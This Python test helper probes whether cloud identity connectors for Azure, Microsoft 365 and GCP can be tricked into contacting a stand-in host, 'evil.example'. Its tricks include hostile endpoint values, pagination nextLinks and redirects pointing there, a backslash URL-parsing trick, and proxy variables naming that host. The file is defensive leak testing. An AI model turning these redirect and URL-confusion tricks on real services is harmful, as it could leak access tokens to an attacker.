"""The attempts of the network-namespace test (tests/safety/test_network_namespace.py), run
inside the client namespace, where ``evil.example`` (and, for ``localhost``, localhost too)
resolves to the other host and every non-loopback address routes to it.

    python -m helpers.leak_attempts controls REPORT   one contact by each way out
    python -m helpers.leak_attempts attempts REPORT   hostile endpoints, foreign links, proxies
    python -m helpers.leak_attempts localhost REPORT  localhost endpoints, localhost resolving elsewhere

``controls`` reaches the other host on purpose, once by a raw socket, a DNS query and each
client library the connectors use (requests, httpx, gRPC), so the test can show that its
listener records what is sent. The others go through the real connectors and SDKs against
the local emulators, and write one JSON entry per attempt: the refusal of its settings, or
each unit's status and error when it ran. Nothing here prints or writes a token.
"""

from __future__ import annotations

import json
import os
import socket
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import grpc
import httpx
import requests

from helpers.hostile_endpoints import EVIL_NAME, hostile_grpc_targets, hostile_urls
from helpers.microsoft import collect_with
from partner_nhi.connector import Connector
from partner_nhi.connectors.azure import AzureConnector
from partner_nhi.connectors.gcp import GcpConnector
from partner_nhi.connectors.gcp.emulator import Emulators, running
from partner_nhi.connectors.gcp.emulator.demo import demo_estate
from partner_nhi.connectors.loopback import LoopbackServer, Response
from partner_nhi.connectors.m365 import M365Connector
from partner_nhi.connectors.microsoft.auth import TOKEN_ENV
from partner_nhi.connectors.microsoft.emulator import MicrosoftEmulator
from partner_nhi.connectors.microsoft.emulator.demo import demo_tenant
from partner_nhi.errors import ConfigError

EVIL_URL = f"http://{EVIL_NAME}"
CONTROL_PORT = 50051
PROXY_VARIABLES = ("http_proxy", "https_proxy", "all_proxy", "grpc_proxy", "no_proxy")
GCP_FAST_RETRY = {"initial": 0.01, "maximum": 0.05, "deadline": 5.0, "attempts": 2}
GCP_REST = {
    "iam_rest_endpoint": "iam_rest",
    "resourcemanager_endpoint": "resource_manager",
    "policyanalyzer_endpoint": "policy_analyzer",
}
FAULT_TIMES = 99  # every retry gets the same answer

Entry = dict[str, Any]


def _attempt(kind: str, name: str, connector_class: type[Connector], settings: dict[str, Any], **extra: Any) -> Entry:
    """Refused settings (with the message), or what a collection through the real SDKs did."""
    entry: Entry = {"kind": kind, "name": name, **extra}
    try:
        connector_class(settings)
    except ConfigError as exc:
        return {**entry, "refused": str(exc)}
    scan = collect_with(connector_class, settings)
    return {**entry, "units": {unit: [o.status.value, o.error] for unit, o in scan.outcomes.items()}}


@contextmanager
def _microsoft() -> Iterator[MicrosoftEmulator]:
    with MicrosoftEmulator(demo_tenant()) as emulator:
        os.environ[TOKEN_ENV] = emulator.token
        yield emulator


@contextmanager
def _gcp() -> Iterator[Emulators]:
    with running(demo_estate()) as emulators:
        yield emulators


def _gcp_settings(emulators: Emulators, **overrides: Any) -> dict[str, Any]:
    return emulators.settings(retry=GCP_FAST_RETRY, **overrides)


def _port(url: str) -> int:
    return int(url.rsplit(":", 1)[1])


def _fails(call: Callable[[], object]) -> str:
    try:
        call()
    except Exception as exc:  # each control is expected to fail: the other host answers nothing
        return type(exc).__name__
    return "answered"


def controls() -> list[Entry]:
    """One contact by each way out; the test finds each marker in the listener's record."""
    with socket.create_connection((EVIL_NAME, 80), timeout=5) as raw:
        raw.sendall(b"control-socket")
        raw.recv(1)  # the listener closes once it has recorded the contact
    entries: list[Entry] = [{"kind": "control", "name": "socket"}]
    dns = _fails(lambda: socket.getaddrinfo("control-dns.invalid", 80))
    entries.append({"kind": "control", "name": "dns", "result": dns})
    for name, call in (
        ("requests", lambda: requests.get(f"{EVIL_URL}/control-requests", timeout=5)),
        ("httpx", lambda: httpx.get(f"{EVIL_URL}/control-httpx", timeout=5)),
    ):
        entries.append({"kind": "control", "name": name, "result": _fails(call)})
    with grpc.insecure_channel(f"{EVIL_NAME}:{CONTROL_PORT}") as channel:
        result = _fails(lambda: grpc.channel_ready_future(channel).result(timeout=3))
    entries.append({"kind": "control", "name": "grpc", "result": result})
    return entries


def hostile_endpoints() -> list[Entry]:
    """Every hostile URL and gRPC target of the tables, in each endpoint setting."""
    entries: list[Entry] = []
    with _microsoft() as emulator:
        azure = emulator.settings()
        for field in ("graph_endpoint", "arm_endpoint"):
            for url in hostile_urls(_port(azure[field])):
                entries.append(_attempt("hostile", f"azure {field}", AzureConnector, {**azure, field: url}, value=url))
        m365 = {"tenant_id": azure["tenant_id"], "graph_endpoint": azure["graph_endpoint"]}
        for url in hostile_urls(_port(azure["graph_endpoint"])):
            settings = {**m365, "graph_endpoint": url}
            entries.append(_attempt("hostile", "m365 graph_endpoint", M365Connector, settings, value=url))
    with _gcp() as emulators:
        gcp = _gcp_settings(emulators)
        for field in GCP_REST:
            for url in hostile_urls(_port(gcp[field])):
                entries.append(_attempt("hostile", f"gcp {field}", GcpConnector, {**gcp, field: url}, value=url))
        for target in hostile_grpc_targets(_port(gcp["iam_endpoint"])):
            settings = {**gcp, "iam_endpoint": target}
            entries.append(_attempt("hostile", "gcp iam_endpoint", GcpConnector, settings, value=target))
    return entries


Answer = Callable[[MicrosoftEmulator], Response]


def _graph_link(emulator: MicrosoftEmulator) -> str:
    return f"{EVIL_URL}/v1.0/applications?$skiptoken=2"


def _arm_path(emulator: MicrosoftEmulator) -> str:
    subscription = emulator.tenant.subscriptions[0].id
    return f"/subscriptions/{subscription}/providers/Microsoft.Authorization/roleAssignments?api-version=2022-04-01"


def _arm_link(emulator: MicrosoftEmulator) -> str:
    return f"{EVIL_URL}{_arm_path(emulator)}"


def _arm_backslash_link(emulator: MicrosoftEmulator) -> str:
    """The issue's trick in a link: urllib3, under azure-core, connects to the other host."""
    return f"{EVIL_URL}\\@{emulator.arm_endpoint.removeprefix('http://')}{_arm_path(emulator)}"


def _page(key: str, link: Callable[[MicrosoftEmulator], str]) -> Answer:
    return lambda emulator: Response(200, {"value": [], key: link(emulator)})


def _redirect(link: Callable[[MicrosoftEmulator], str]) -> Answer:
    return lambda emulator: Response(307, None, {"Location": link(emulator)})


ROLES = "role-assignments/{subscription}"
MICROSOFT_LINKS: list[tuple[str, str, str, Answer, str]] = [  # name, server, path pattern, answer, unit
    ("graph nextLink", "graph", r"/v1\.0/applications$", _page("@odata.nextLink", _graph_link), "applications"),
    (
        "graph $batch item nextLink",
        "graph",
        r"/federatedIdentityCredentials$",
        _page("@odata.nextLink", _graph_link),
        "federated-credentials",
    ),
    ("graph redirect", "graph", r"/v1\.0/applications$", _redirect(_graph_link), "applications"),
    ("arm nextLink", "arm", r"/roleAssignments$", _page("nextLink", _arm_link), ROLES),
    ("arm nextLink, backslash", "arm", r"/roleAssignments$", _page("nextLink", _arm_backslash_link), ROLES),
    ("arm redirect", "arm", r"/roleAssignments$", _redirect(_arm_link), ROLES),
]
GCP_REDIRECTS = [  # name, server, method, path pattern, unit
    ("resource manager redirect", "resource_manager", "POST", r":getIamPolicy$", "iam-policy"),
    ("policy analyzer redirect", "policy_analyzer", "GET", r"activities:query$", "key-last-authentication"),
]


def foreign_links() -> list[Entry]:
    """Honest endpoints whose emulator answers with a link or a redirect to the other host."""
    entries: list[Entry] = []
    for name, server, pattern, answer, unit in MICROSOFT_LINKS:
        with _microsoft() as emulator:
            faulty: LoopbackServer = getattr(emulator, server)
            faulty.fail("GET", pattern, answer(emulator), FAULT_TIMES)
            unit_name = unit.format(subscription=emulator.tenant.subscriptions[0].id)
            entries.append(_attempt("link", name, AzureConnector, emulator.settings(), unit=unit_name))
    for name, server, method, pattern, unit in GCP_REDIRECTS:
        with _gcp() as emulators:
            answer = Response(307, None, {"Location": f"{EVIL_URL}/v3/elsewhere"})
            getattr(emulators, server).fail(method, pattern, answer, FAULT_TIMES)
            entries.append(_attempt("link", name, GcpConnector, _gcp_settings(emulators), unit=unit))
    return entries


def proxies() -> list[Entry]:
    """Honest loopback endpoints with every proxy variable naming the other host."""
    for name in PROXY_VARIABLES:
        value = "" if name == "no_proxy" else f"{EVIL_URL}:3128"
        os.environ[name] = os.environ[name.upper()] = value
    with _microsoft() as emulator:
        entries = [_attempt("proxy", "azure", AzureConnector, emulator.settings())]
    with _gcp() as emulators:
        entries.append(_attempt("proxy", "gcp", GcpConnector, _gcp_settings(emulators)))
    return entries


def localhost() -> list[Entry]:
    """``localhost`` endpoints while localhost resolves to the other host."""
    with _microsoft() as emulator:
        azure = emulator.settings()
        named = {field: f"http://localhost:{_port(azure[field])}" for field in ("graph_endpoint", "arm_endpoint")}
        entries = [_attempt("hostile", "azure localhost", AzureConnector, {**azure, **named}, value="localhost")]
    with _gcp() as emulators:
        gcp = _gcp_settings(emulators)
        named = {field: f"http://localhost:{_port(gcp[field])}" for field in GCP_REST}
        named["iam_endpoint"] = f"localhost:{_port(gcp['iam_endpoint'])}"
        entries.append(_attempt("hostile", "gcp localhost", GcpConnector, {**gcp, **named}, value="localhost"))
    return entries


PASSES: dict[str, Callable[[], list[Entry]]] = {
    "controls": controls,
    "attempts": lambda: [*hostile_endpoints(), *foreign_links(), *proxies()],
    "localhost": localhost,
}

if __name__ == "__main__":
    Path(sys.argv[2]).write_text(json.dumps(PASSES[sys.argv[1]]()))
